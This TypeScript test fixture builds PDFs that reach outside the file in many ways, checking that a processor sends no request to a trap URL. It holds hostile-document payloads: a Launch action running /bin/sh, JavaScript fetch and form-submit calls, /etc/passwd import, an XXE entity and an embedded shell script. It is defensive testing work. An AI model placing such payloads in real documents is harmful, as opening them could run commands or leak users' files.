import { letter, singlePagePdf } from "./pages.ts";

/** Files that reference an external resource in every way PDF offers. `trapUrl` must receive no request. */
export const externalReferences = (trapUrl: string) => ({
  "a link to a web page": singlePagePdf({
    page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (${trapUrl}/uri) >> >>]`,
  }),
  "a web page to open at once": singlePagePdf({
    catalog: `/OpenAction << /S /URI /URI (${trapUrl}/open) >>`,
  }),
  "another file to go to": singlePagePdf({
    catalog: `/OpenAction << /S /GoToR /F << /Type /Filespec /FS /URL /F (${trapUrl}/gotor.pdf) >> /D [0 /Fit] >>`,
  }),
  "a program to launch": singlePagePdf({
    catalog:
      "/OpenAction << /S /Launch /F (/bin/sh) /Unix << /F (/bin/sh) /P (-c 'touch /tmp/launched') >> >>",
  }),
  "a form to submit, data to import and a script, on opening, closing and printing": singlePagePdf({
    catalog:
      `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${trapUrl}/js"\\); this.submitForm\\("${trapUrl}/submit"\\)) >> ` +
      `/AA << /WC << /S /SubmitForm /F << /FS /URL /F (${trapUrl}/wc) >> >> /WP << /S /ImportData /F (/etc/passwd) >> >> ` +
      `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (fetch\\("${trapUrl}/names"\\)) >>] >> >>`,
    page: `/AA << /O << /S /JavaScript /JS (fetch\\("${trapUrl}/page"\\)) >> >>`,
  }),
  "a form in XFA": singlePagePdf({}, (pdf) => {
    const xfa = pdf.stream(
      "",
      `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY u SYSTEM "${trapUrl}/entity">]>` +
        `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">` +
        `<subform><field><event activity="initialize"><submit target="${trapUrl}/xfa"/></event>&e;&u;</field></subform>` +
        `</template></xdp:xdp>`,
    );
    return { catalog: `/AcroForm << /Fields [] /XFA ${xfa} 0 R >>` };
  }),
  "files inside, one of them a program": singlePagePdf({}, (pdf) => {
    const file = pdf.stream("/Type /EmbeddedFile", "#!/bin/sh\ntouch /tmp/embedded\n");
    return {
      catalog: `/Names << /EmbeddedFiles << /Names [(run.sh) << /Type /Filespec /F (run.sh) /EF << /F ${file} 0 R >> >>] >> >>`,
    };
  }),
  "an external form XObject": singlePagePdf({}, (pdf) => {
    const drawing = pdf.stream(
      `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F << /FS /URL /F (${trapUrl}/ref.pdf) >> /Page 0 >>`,
      "",
    );
    return { resources: `/XObject << /X ${drawing} 0 R >>`, content: `${letter} /X Do` };
  }),
  "an image with external data": singlePagePdf({}, (pdf) => {
    const picture = pdf.stream(
      `/Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceGray /BitsPerComponent 8 ` +
        `/F << /FS /URL /F (${trapUrl}/picture) >> /Alternates [<< /Image 1 0 R >>]`,
      "",
    );
    return { resources: `/XObject << /X ${picture} 0 R >>`, content: `${letter} /X Do` };
  }),
  "page content with external data": singlePagePdf({
    contentDictionary: `/F << /FS /URL /F (${trapUrl}/content) >>`,
  }),
  "an external font and character map": singlePagePdf({}, (pdf) => {
    const program = pdf.stream(`/F << /FS /URL /F (${trapUrl}/font) >>`, "");
    const child = pdf.add(
      "<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Far /CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) " +
        `/Supplement 0 >> /FontDescriptor << /Type /FontDescriptor /FontName /Far /Flags 4 /FontFile2 ${program} 0 R >> >>`,
    );
    const far = pdf.add(
      `<< /Type /Font /Subtype /Type0 /BaseFont /Far /Encoding /UniJIS-UTF16-H /DescendantFonts [${child} 0 R] >>`,
    );
    return {
      resources: `/Font << /F1 ${far} 0 R >>`,
      content: "BT /F1 9 Tf 72 700 Td <00410042> Tj ET",
    };
  }),
});
